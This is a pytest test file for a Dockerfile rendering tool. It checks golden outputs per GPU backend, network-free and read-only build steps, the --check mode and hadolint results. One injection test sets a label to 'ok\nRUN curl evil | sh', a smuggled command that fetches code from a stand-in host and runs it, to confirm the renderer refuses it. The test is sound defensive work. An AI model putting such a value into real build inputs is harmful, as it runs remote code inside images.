"""Rendering: exact output per backend (small golden files), --check, injection, hadolint."""

from __future__ import annotations

import json
import re
import shutil
import sys
from pathlib import Path

import pytest
from helpers import assert_golden

from builder.cli import main
from builder.config.errors import UserError
from builder.config.project import load_project
from builder.images import lint, render
from devtools.support import REPO

GOLDEN = Path(__file__).parent / "golden"


@pytest.fixture
def golden_project(tmp_path: Path):
    shutil.copytree(REPO / "templates", tmp_path / "templates")
    shutil.copy(GOLDEN / "matrix.yaml", tmp_path / "matrix.yaml")
    shutil.copy(REPO / "wheel-mapping.json", tmp_path / "wheel-mapping.json")
    return load_project(tmp_path / "matrix.yaml")


@pytest.mark.parametrize("name", ["cpu", "cuda", "rocm", "xpu"])
def test_golden_dockerfile(golden_project, name):
    """Exact rendered text per backend; regenerate with UPDATE_GOLDEN=1 (make golden)."""
    text = render.render(golden_project, [golden_project.target(name)])
    rendered = next(iter(text.values()))
    assert_golden(GOLDEN / f"{name}.Dockerfile", rendered)


def test_shared_layers_identical_across_targets(golden_project):
    """Everything before the wheel layers is byte-identical in every target (cache reuse)."""
    texts = render.render(golden_project, golden_project.targets).values()
    assert all("\nFROM common AS wheel-layer-" in t for t in texts)
    heads = {t.split("\nFROM common AS wheel-layer-")[0].split("\nFROM ", 1)[1] for t in texts}
    assert len(heads) == 1


def test_dockerfile_contract(golden_project):
    cuda = golden_project.target("cuda")
    text = render.render(golden_project, [cuda]).popitem()[1]
    assert "USER 1001:1001" in text
    assert 'ENTRYPOINT ["/usr/bin/tini", "--", "runtime-check", "exec", "--"]' in text
    # Every stage is on the digest-pinned base (a build argument) or on a stage of its own.
    froms = [line.split() for line in text.splitlines() if line.startswith("FROM ")]
    assert text.startswith("# ") and "\nARG BASE\n" in text.split("\nFROM ", 1)[0]
    # One stage per wheel layer of the plan, each on the one below (the target's packages: in runtime).
    below = ["common", *(f"wheel-layer-{layer}" for layer in cuda.layers[:-1])]
    assert len(below) >= 3
    assert [f[1:] for f in froms] == [["${BASE}", "AS", "tools"], ["${BASE}", "AS", "common"],
                                      *([a, "AS", b] for a, b in zip(below, below[1:])),
                                      [below[-1], "AS", "torch"],
                                      ["common", "AS", "runtime-files"],
                                      ["torch", "AS", "runtime"]], froms
    # No step reaches a network, and every RUN has /tmp on a tmpfs (nothing of a step's stays there).
    runs = [line for line in text.splitlines() if line.startswith("RUN ")]
    assert runs and all(line.startswith("RUN --network=none --mount=type=tmpfs,target=/tmp ") for line in runs), runs
    assert 'NVIDIA_VISIBLE_DEVICES="all"' in text and 'NVIDIA_DRIVER_CAPABILITIES="compute,utility"' in text
    body = "\n".join(line for line in text.splitlines() if not line.startswith("#"))
    for forbidden in ("cuda-toolkit", "nvidia-driver", "apt-get", "PIP_CERT", "ca-certificates.crt", "--cert"):
        assert forbidden not in body, f"{forbidden} must not be in an image"
    cpu = render.render(golden_project, [golden_project.target("cpu")]).popitem()[1]
    assert "NVIDIA" not in cpu


def test_no_bind_mount_is_writable(golden_project):
    """Every RUN's bind mounts (the checkout's runtime/ and examples/, the staged wheels, uv) are read-only:
    buildah 1.28 binds a ``rw`` mount straight onto its source, so a build, as root, could write into
    the checkout (before issue 40 the runtime's was ``rw``: pip built in it)."""
    for text in render.render(golden_project, golden_project.targets).values():
        binds = [m.split(",") for m in re.findall(r"--mount=(\S+)", text) if "type=bind" in m.split(",")]
        assert any("source=runtime" in m for m in binds), binds
        writable = [m for m in binds if {"rw", "readwrite", "rw=true", "readwrite=true"} & set(m)]
        assert not writable, writable


def test_finalize_refuses_newlines(golden_project, monkeypatch):
    """Even if a value slipped past validation, the renderer refuses to emit a new line."""
    target = golden_project.target("cpu")
    object.__setattr__(target, "labels", {"x": "ok\nRUN curl evil | sh"})
    with pytest.raises(UserError, match="refusing to render"):
        render.render(golden_project, [target])


def _cli(args, monkeypatch, capsys):
    monkeypatch.setattr(sys, "argv", ["builder", *args])
    with pytest.raises(SystemExit) as exc:
        main()
    out = capsys.readouterr()
    return exc.value.code, out.out, out.err


def test_render_check_clean_then_stale(project, monkeypatch, capsys):
    monkeypatch.chdir(project)
    assert _cli(["render", "--check"], monkeypatch, capsys)[0] == 0
    (project / "images/cpu/Dockerfile").write_text("FROM scratch\n")
    code, out, err = _cli(["render", "--check"], monkeypatch, capsys)
    assert code == 1 and "images/cpu/Dockerfile" in out and "stale" in err
    assert (project / "images/cpu/Dockerfile").read_text() == "FROM scratch\n", "--check must not write"
    assert _cli(["render"], monkeypatch, capsys)[0] == 0
    assert _cli(["render", "--check"], monkeypatch, capsys)[0] == 0


def test_render_check_flags_stale_folder(project, monkeypatch, capsys):
    monkeypatch.chdir(project)
    (project / "images/old-target").mkdir()
    code, out, _ = _cli(["render", "--check"], monkeypatch, capsys)
    assert code == 1 and "images/old-target/: no target" in out


def test_committed_images_are_current(monkeypatch, capsys):
    """The repo's own images/ matches its templates (what CI's render --check enforces)."""
    monkeypatch.chdir(REPO)
    code, out, _ = _cli(["render", "--check"], monkeypatch, capsys)
    assert code == 0, out


def test_hadolint_clean_on_every_target(project):
    p = load_project(project / "matrix.yaml")
    assert lint.lint(p, p.targets) == []


def test_hadolint_catches_a_bad_dockerfile(project):
    p = load_project(project / "matrix.yaml")
    (project / "images/cpu/Dockerfile").write_text("FROM debian\nRUN apt-get install curl\n")
    findings = lint.lint(p, [p.target("cpu")])
    assert any("DL3006" in f or "DL3008" in f for f in findings), findings


def test_matrix_github_format(project, monkeypatch, capsys):
    monkeypatch.chdir(project)
    code, out, _ = _cli(["matrix", "--format", "github"], monkeypatch, capsys)
    data = json.loads(out)
    assert code == 0 and [row["target"] for row in data["include"]][:2] == ["cpu", "nvidia-cu130"]
    assert "\n" not in out.strip(), "GITHUB_OUTPUT needs one line"


def test_print_resolves_everything(project, monkeypatch, capsys):
    monkeypatch.chdir(project)
    _, out, _ = _cli(["print", "--target", "nvidia-cu118"], monkeypatch, capsys)
    t = json.loads(out)["targets"][0]
    assert t["torch_pin"] == "2.7.1+cu118" and t["distributed"] == "nccl"
    assert t["refs"][0] == "localhost:5000/ml-runtime:nvidia-cu118"
    assert "latest-nvidia" not in t["tags"], "the newest NVIDIA target (cu130) owns the alias"
    assert t["run"]["gpus"] is True and t["visible_devices_env"] == "CUDA_VISIBLE_DEVICES"


def test_xpu_distributed_backend_by_torch_version(project):
    from builder.config.wheelmap import distributed_backend

    p = load_project(project / "matrix.yaml")
    entry = p.mapping.entries["xpu"]
    assert distributed_backend(entry, "2.8.0") == "xccl"
    assert distributed_backend(entry, "2.7.1") == "ccl"
    assert p.target("amd-rocm5.7").distributed == "nccl"  # RCCL answers to the nccl name
